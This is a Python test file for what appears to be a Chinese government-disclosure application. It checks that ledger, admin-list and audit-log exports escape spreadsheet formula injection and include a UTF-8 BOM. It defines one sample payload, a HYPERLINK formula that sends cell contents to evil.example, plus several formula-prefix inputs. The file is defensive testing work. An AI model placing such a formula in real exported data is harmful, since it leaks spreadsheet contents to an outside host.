"""Exports opened in a spreadsheet program run no formula from the data and show Chinese."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.audit.context import acting
from gongkai.audit.export import write_entries
from gongkai.audit.models import AuditEntry
from gongkai.spreadsheet_export import neutralise
from tests.test_ledger import GOOD_ROWS, calendar_years, cli, write_csv  # noqa: F401

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("calendar_years")]

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise(value: Any, expected: Any) -> None:
    assert neutralise(value) == expected


def _evil_ledger(tmp_path: Any, agency: Any) -> None:
    rows = [list(GOOD_ROWS[0])]
    rows[0][3] = EVIL
    path = write_csv(tmp_path / "in.csv", rows, encoding="utf-8")
    result = cli("import", str(path), "--agency", agency.code)
    assert result.exit_code == 0, result.output


def test_ledger_csv_export_neutralises_and_has_a_bom(district: Any, tmp_path: Any) -> None:
    _evil_ledger(tmp_path, district.a)
    out = tmp_path / "out.csv"
    assert (
        cli("export", "--agency", district.a.code, "--year", "2025", "-o", str(out)).exit_code == 0
    )
    content = out.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert lines[1][3] == "'" + EVIL


def test_ledger_xlsx_export_stores_formula_text_as_text(district: Any, tmp_path: Any) -> None:
    _evil_ledger(tmp_path, district.a)
    out = tmp_path / "out.xlsx"
    assert (
        cli("export", "--agency", district.a.code, "--year", "2025", "-o", str(out)).exit_code == 0
    )
    cell = load_workbook(out).worksheets[0].cell(row=2, column=4)
    assert cell.data_type == "s" and cell.value == EVIL


def test_admin_list_csv_export_neutralises_and_has_a_bom(
    client: Client, district: Any, tmp_path: Any
) -> None:
    _evil_ledger(tmp_path, district.a)
    client.force_login(district.user("a", "disclosure_officer"))
    listing = client.get(reverse("applications:index") + "?export=csv")
    body = b"".join(listing.streaming_content) if listing.streaming else listing.content
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert any(("'" + EVIL) in row for row in rows), rows
    assert not any(EVIL in row for row in rows)


def test_audit_csv_export_neutralises_and_has_a_bom(district: Any) -> None:
    with acting(actor=None, channel="cli"):
        from gongkai.audit.services import record

        record(action="test.evil", summary=EVIL, agency=district.a)
    handle = io.StringIO()
    write_entries(AuditEntry.objects.filter(action="test.evil"), handle, fmt="csv")
    text = handle.getvalue()
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:])))[1][4] == "'" + EVIL


def test_a_neutralised_csv_imports_back_unchanged(district: Any, tmp_path: Any) -> None:
    _evil_ledger(tmp_path, district.a)
    out = tmp_path / "out.csv"
    cli("export", "--agency", district.a.code, "--year", "2025", "-o", str(out))
    from gongkai.applications.models import Application

    Application.objects.all().delete()
    assert cli("import", str(out), "--agency", district.b.code).exit_code == 0
    assert Application.objects.get().applicant_name == EVIL
    assert date(2025, 3, 3) == Application.objects.get().received_date
